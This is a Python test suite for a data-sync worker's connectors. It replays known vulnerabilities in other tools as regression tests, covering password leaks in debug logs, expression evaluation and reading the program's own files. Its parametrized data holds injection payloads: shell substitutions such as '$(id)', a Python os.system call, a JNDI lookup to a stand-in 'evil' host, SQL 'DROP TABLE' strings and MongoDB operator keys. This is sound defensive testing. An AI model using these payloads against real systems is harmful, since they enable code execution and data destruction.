"""Holes that other programs had in what this half does, tried here: each test is the attack that became known.

Beside this: `test_url_options` (MongoBleed, CVE-2025-14847), `test_reading_only`, `test_confined_files`, `test_egress`.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from contextlib import closing
from pathlib import Path
from typing import Any

import psycopg
import pymongo
import pytest
from psycopg import sql

from tests.worker.connectors.moving import Mover
from worker.connection import Connection
from worker.connectors import open_end
from worker.declaration import connection_document, job_document, parse_connection, parse_job, resolve
from worker.errors import BadInput, SyncworkerError
from worker.job import StreamSpec, Write

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "hunter22-Planted"

TEMPLATES = [
    *(
        "{{ 7*7 }}",
        "{{ $json.x }}",
        "={{ $env.HOME }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "$(id)",
        "`id`",
        "%(x)s",
        "{0}",
    ),
    *("__import__('os').system('id')", "{% import os %}", "%c", "\\u0041", "${jndi:ldap://evil/x}", "$HOME", "~root"),
]

CHILD = """
import sys
from worker import logs
from worker.declaration import parse_connection, resolve
from worker.errors import SyncworkerError
from worker.connectors import open_end
logs.configure("debug", "json", "test")
for kind, url in zip(sys.argv[1::2], sys.argv[2::2]):
    settings = {"type": kind, "url": url} | ({"database": "x"} if kind == "mongodb" else {})
    connection = resolve(parse_connection("lake", settings), {})
    try:
        with open_end(kind, connection.settings, "source") as source:
            source.check()
    except SyncworkerError as error:
        print(logs.redact(str(error)))
"""


def test_airbyte_passwords_in_the_log_of_debug(
    postgres_url: str, mongo_url: str, free_port: int, tmp_path: Path
) -> None:
    """At `debug` its connectors printed the settings that they were given. Here the drivers are kept quiet as well."""
    host = postgres_url.partition("@")[2]
    found = [
        *("postgres", f"postgresql://nobody:{PASSWORD}@{host}"),
        *("postgres", f"postgresql://u:{PASSWORD}@127.0.0.1:{free_port}/x"),
        *("postgres", f"postgresql://u:{PASSWORD}@127.0.0.1:{free_port}/x?sslmode=verify-full"),
        *("mongodb", mongo_url.replace("://", f"://u:{PASSWORD}@")),
        *("mongodb", f"mongodb://u:{PASSWORD}@127.0.0.1:{free_port}/"),
    ]
    command = [sys.executable, "-X", "dev", "-c", CHILD, *found]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=True)
    assert len(done.stdout.splitlines()) == 5, done.stdout + done.stderr
    assert "hunter22" not in done.stdout + done.stderr


@pytest.mark.parametrize("text", TEMPLATES)
def test_n8n_expressions_that_are_evaluated(text: str, tmp_path: Path) -> None:
    """Texts of a user that look like a template's stay what they are: in names, conditions, filters, settings."""
    stream = {"name": text, "target": text, "where": f"a = '{text}'", "rename": {text: f"x{text}"}, "key": [text]}
    given = {"source": "a", "destination": "b", "streams": [stream]}
    kept = job_document(parse_job("j", given))["streams"][0]
    assert (kept["name"], kept["where"], kept["rename"]) == (text, f"a = '{text}'", {text: f"x{text}"})

    with closing(sqlite3.connect(tmp_path / "shop.db")) as shop, shop:
        shop.execute("CREATE TABLE people (id INTEGER PRIMARY KEY, a TEXT)")
        shop.executemany("INSERT INTO people VALUES (?, ?)", [(1, text), (2, "49")])
    quoted = text.replace("'", "''")
    spec = StreamSpec(name="people", options={"where": f"a = '{quoted}'"})
    with open_end("sqlite", {"path": str(tmp_path / "shop.db")}, "source") as source:
        rows = [row for batch in source.read(spec, None) for row in batch.rows]  # type: ignore[union-attr]
    assert rows == [{"id": 1, "a": text}]


@pytest.mark.parametrize("text", [one for one in TEMPLATES if not one.startswith("${")])
def test_settings_of_a_connection_are_no_templates_either(text: str) -> None:
    settings = {"type": "postgres", "url": "postgresql://h/d", "schema": text}
    connection = parse_connection("shop", settings)
    assert connection_document(resolve(connection, {"HOME": "/root"})) == settings


@pytest.mark.parametrize("name", ["7*7", "jndi:ldap://evil/x", "HOME:-x", "!HOME", "a b", ""])
def test_a_reference_is_a_name_and_nothing_more(name: str) -> None:
    with pytest.raises(BadInput, match=r"allowed: \$\{NAME\}"):
        parse_connection("shop", {"type": "sqlite", "path": f"${{{name}}}"})


def test_superset_a_connection_that_reads_the_programs_own_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A `sqlite` connection of its opened the metadata database: here key and database are ours."""
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    (tmp_path / "secret_key").write_text("geheim")
    for kind in ("sqlite", "files"):
        for path in (tmp_path / "secret_key", tmp_path):
            with pytest.raises(BadInput, match="syncworker's own"):
                open_end(kind, {"path": str(path)}, "source").check()


# Names that other programs put into a statement as they were.
NAMES = [
    *(
        'a"b',
        "a'b",
        "a`b",
        "a]b",
        'a""b',
        "a;b",
        "a--b",
        "a/*b*/",
        "a\\b",
        "a b",
        " a ",
        "select",
        "SELECT",
        "a%sb",
        "a%b",
    ),
    *(
        "a.b",
        "$a",
        "$where",
        "a$b",
        "ключ",
        "名前",
        "é",
        "e\u0301",
        "😀",
        "a\u200bb",
        "a\nb",
        "a\tb",
        "x" * 63,
        ":a",
        "?",
        "{a}",
    ),
    *('"; DROP TABLE victims; --', "'); DROP TABLE victims; --", "1=1", "a\u2028b", "İ", "ß"),
]


@pytest.fixture
def lakes(tmp_path: Path, postgres_database: str) -> dict[str, tuple[str, dict[str, str]]]:
    return {
        "sqlite": ("sqlite", {"path": str(tmp_path / "lake.db")}),
        "postgres": ("postgres", {"url": postgres_database}),
    }


@pytest.mark.parametrize("lake", ["sqlite", "postgres"])
@pytest.mark.parametrize("name", NAMES)
def test_any_name_of_a_table_or_column_is_a_name_and_nothing_more(
    lakes: dict[str, tuple[str, dict[str, str]]], lake: str, name: str, tmp_path: Path
) -> None:
    """Written and read again under that name, as table, as column and as key; nothing else comes of it."""
    with closing(sqlite3.connect(tmp_path / "shop.db")) as shop, shop:
        column = name.replace('"', '""')
        shop.execute(f'CREATE TABLE "{column}" ("{column}" INTEGER PRIMARY KEY, "other one" TEXT)')
        shop.executemany(f'INSERT INTO "{column}" VALUES (?, ?)', [(1, "x"), (2, "y")])
    for write in (Write.REPLACE, Write.MIRROR):
        target = name if "." not in name or lake == "sqlite" else name.replace(".", "_")  # a dot says which schema
        spec = StreamSpec(name=name, write=write, key=(name,), target=None if target == name else target)
        Mover(("sqlite", {"path": str(tmp_path / "shop.db")}), lakes[lake], spec).go()
        with open_end(*lakes[lake], "source") as source:
            rows = [row for batch in source.read(StreamSpec(name=target), None) for row in batch.rows]  # type: ignore[union-attr]
            assert sorted(row[name] for row in rows) == [1, 2]
            assert [one.name for one in source.streams()] == [target]  # type: ignore[union-attr]


@pytest.mark.parametrize("lake", ["sqlite", "postgres"])
@pytest.mark.parametrize("name", ["a\0b", "x" * 64, "ä" * 32])
def test_a_name_that_a_database_cannot_hold_is_refused_and_cut_by_nobody(
    lakes: dict[str, tuple[str, dict[str, str]]], lake: str, name: str, tmp_path: Path
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "people.jsonl").write_text('{"id": 1}\n')
    spec = StreamSpec(name="people", write=Write.UPSERT, key=("id",), target=name)
    mover = Mover(("files", {"path": str(tmp_path / "in")}), lakes[lake], spec)
    if lake == "sqlite" and "\0" not in name:  # which has no limit
        mover.go()
        return
    with pytest.raises(SyncworkerError):
        mover.go()


def test_names_that_mean_something_to_mongodb_are_names(mongo_url: str, mongo_database: str, tmp_path: Path) -> None:
    """`$`-names and dots as fields are kept as they are; as operators they would be another query."""
    (tmp_path / "in").mkdir()
    fields = {name: number for number, name in enumerate(NAMES)}
    (tmp_path / "in" / "people.jsonl").write_text(json.dumps({"id": 1, **fields}) + "\n")
    lake = ("mongodb", {"url": mongo_url, "database": mongo_database})
    for write in (Write.REPLACE, Write.UPSERT, Write.MIRROR):
        spec = StreamSpec(name="people", write=write, key=("id",))
        Mover(("files", {"path": str(tmp_path / "in")}), lake, spec).go()
        with pymongo.MongoClient[dict[str, Any]](mongo_url) as client:
            (found,) = client[mongo_database]["people"].find()
        assert found == {"_id": 1, "id": 1, **fields}


@pytest.mark.parametrize("key", [{"$gt": ""}, {"$ne": None}, [{"$gt": 1}], {"$where": "true"}])
def test_an_operator_as_a_key_finds_its_own_row_alone(
    mongo_url: str, mongo_database: str, key: Any, tmp_path: Path
) -> None:
    """A document that is a key is compared, not obeyed: an upsert of `{"$ne": null}` overwrites nobody else."""
    (tmp_path / "in").mkdir()
    with pymongo.MongoClient[dict[str, Any]](mongo_url) as client:
        client[mongo_database]["people"].insert_one({"_id": "victim", "id": "victim"})
    (tmp_path / "in" / "people.jsonl").write_text(json.dumps({"id": key, "a": 1}) + "\n")
    spec = StreamSpec(name="people", write=Write.UPSERT, key=("id",))
    try:
        Mover(
            ("files", {"path": str(tmp_path / "in")}), ("mongodb", {"url": mongo_url, "database": mongo_database}), spec
        ).go()
    except SyncworkerError:
        pass  # refused is as good
    with pymongo.MongoClient[dict[str, Any]](mongo_url) as client:
        assert client[mongo_database]["people"].find_one({"_id": "victim"}) == {"_id": "victim", "id": "victim"}


def test_a_schema_of_postgres_is_a_name_too(postgres_database: str) -> None:
    name = 'a"b; DROP TABLE victims; --'
    with psycopg.connect(postgres_database) as shop:
        shop.execute("CREATE TABLE victims (id int)")
        shop.execute(sql.SQL("CREATE SCHEMA {}").format(sql.Identifier(name)))
        shop.execute(sql.SQL("CREATE TABLE {} (id int)").format(sql.Identifier(name, "orders")))
    connection = Connection(id="shop", type="postgres", settings={"url": postgres_database, "schema": name})
    with open_end("postgres", resolve(connection, {}).settings, "source") as source:
        source.check()
        assert next(one.name for one in source.streams()) == "orders"  # type: ignore[union-attr]
        assert list(source.read(StreamSpec(name="orders"), None)) == []  # type: ignore[union-attr]
    with psycopg.connect(postgres_database) as shop:
        assert shop.execute("SELECT count(*) FROM victims").fetchone() == (0,)
